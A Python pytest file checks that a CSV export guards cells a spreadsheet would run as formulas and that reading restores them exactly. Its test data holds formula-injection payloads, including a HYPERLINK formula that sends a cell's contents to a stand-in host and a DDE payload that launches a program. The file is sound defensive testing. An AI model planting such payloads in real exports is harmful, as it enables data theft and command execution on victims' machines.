"""CSV cells that spreadsheets would run as formulas are guarded, and reading undoes it."""

from __future__ import annotations

import pytest

from chancery.domain.formulas import guard_cell, unguard_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "@SUM(A1)", "-2+3",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
PLAIN = ["", "Cable from Saigon", "It's late", "'quoted'", " =spaced", "1958-07-17", "A-1", "'"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_beginning_with_a_formula_trigger_gets_an_apostrophe(value: str) -> None:
    """Each of OWASP's trigger characters at the start is neutralised."""
    assert guard_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_ordinary_text_is_left_alone(value: str) -> None:
    """Text that no spreadsheet runs (a hyphen inside, an apostrophe first) is not changed."""
    assert guard_cell(value) == value and unguard_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE + PLAIN + ["'=1+1", "''=1+1", "'''-x", "''"])
def test_reading_a_guarded_cell_gives_back_the_text_exactly(value: str) -> None:
    """Guarded and read again any number of times, a value does not gather apostrophes, even
    one that already began with an apostrophe and a trigger."""
    once = unguard_cell(guard_cell(value))
    assert once == value and unguard_cell(guard_cell(once)) == value
